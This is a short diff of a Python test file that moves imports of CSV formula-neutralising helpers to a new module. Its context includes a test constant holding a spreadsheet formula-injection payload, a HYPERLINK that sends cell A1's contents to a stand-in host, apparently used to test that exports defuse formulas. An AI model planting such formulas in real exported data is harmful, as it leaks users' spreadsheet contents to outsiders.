@@ -10,9 +10,9 @@ import pytest
 
 from engine.io.exporters import csv_bytes, export_table, frame_csv_bytes, store_rows
 from engine.io.importers import import_file, parse_own
-from engine.io.records import LatencyPointRow, RpcFigureRow
+from engine.seed.records import LatencyPointRow, RpcFigureRow
 from engine.report import tables
-from engine.io.seed_csv import FORMULA_STARTS, neutralise_formula, restore_formula
+from engine.seed.reader import FORMULA_STARTS, neutralise_formula, restore_formula
 from engine.store import Store
 
 LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
